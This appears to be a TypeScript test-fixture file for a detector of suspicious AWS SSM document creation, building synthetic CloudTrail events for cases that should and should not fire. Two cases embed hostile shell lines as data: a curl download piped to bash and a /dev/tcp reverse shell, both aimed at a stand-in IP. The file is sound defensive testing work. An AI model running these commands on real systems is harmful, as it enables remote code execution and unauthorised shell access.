import { cloudTrailEvent, failed, identities } from '../examples/events.js';
import type { CloudTrailEvent, DetectorExamples } from '../types.js';

/** A Command document in schema 2.2, as a caller sends it (a JSON string). */
const commandContent = (commands: readonly string[]) =>
  JSON.stringify({
    schemaVersion: '2.2',
    description: 'Collect diagnostics',
    mainSteps: [
      { action: 'aws:runShellScript', name: 'collect', inputs: { runCommand: commands } },
    ],
  });

/** CreateDocument as SSM logs it: the request with the content, the description in the response. */
const createDocument = (
  name: string,
  content: string,
  documentType: string | undefined = 'Command',
  overrides: Partial<CloudTrailEvent> = {},
) =>
  cloudTrailEvent({
    eventSource: 'ssm.amazonaws.com',
    eventName: 'CreateDocument',
    userIdentity: identities.iamUser('mallory'),
    requestParameters: {
      content,
      name,
      ...(documentType ? { documentType } : {}),
      documentFormat: 'JSON',
    },
    responseElements: {
      documentDescription: {
        name,
        documentType: documentType ?? 'Command',
        documentFormat: 'JSON',
        status: 'Creating',
        documentVersion: '1',
        owner: '111122223333',
        platformTypes: ['Linux', 'MacOS'],
      },
    },
    ...overrides,
  });

export const examples: DetectorExamples = {
  fire: [
    {
      name: 'a Command document whose script pipes a download to bash',
      events: [
        createDocument('diag-helper', commandContent(['curl -s https://203.0.113.7/x.sh | bash'])),
      ],
    },
    {
      name: 'no documentType: Command is the default',
      events: [createDocument('diag-helper', commandContent(['uptime']), undefined)],
    },
    {
      name: 'existing document given new content',
      events: [
        cloudTrailEvent({
          eventSource: 'ssm.amazonaws.com',
          eventName: 'UpdateDocument',
          userIdentity: identities.assumedRole('Ops', 'mallory'),
          requestParameters: {
            content: commandContent(['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1']),
            name: 'nightly-cleanup',
            documentVersion: '$LATEST',
          },
          responseElements: {
            documentDescription: {
              name: 'nightly-cleanup',
              documentType: 'Command',
              documentVersion: '2',
            },
          },
        }),
      ],
    },
    {
      name: 'a Session document that runs interactive commands',
      events: [
        createDocument(
          'interactive-debug',
          JSON.stringify({
            schemaVersion: '1.0',
            sessionType: 'InteractiveCommands',
            properties: { linux: { commands: 'sudo -i', runAsElevated: true } },
          }),
          'Session',
        ),
      ],
    },
  ],
  noFire: [
    {
      name: 'a Package document',
      events: [
        createDocument('agent-package', '{"schemaVersion":"2.0","version":"1.0"}', 'Package'),
      ],
    },
    {
      name: 'deployed through CloudFormation',
      events: [
        createDocument('diag-helper', commandContent(['uptime']), 'Command', {
          userIdentity: {
            ...identities.assumedRole('CfnExecution', 'AWSCloudFormation'),
            invokedBy: 'cloudformation.amazonaws.com',
          },
        }),
      ],
    },
    {
      name: 'refused',
      events: [
        failed(createDocument('diag-helper', commandContent(['uptime'])), 'AccessDeniedException'),
      ],
    },
  ],
};
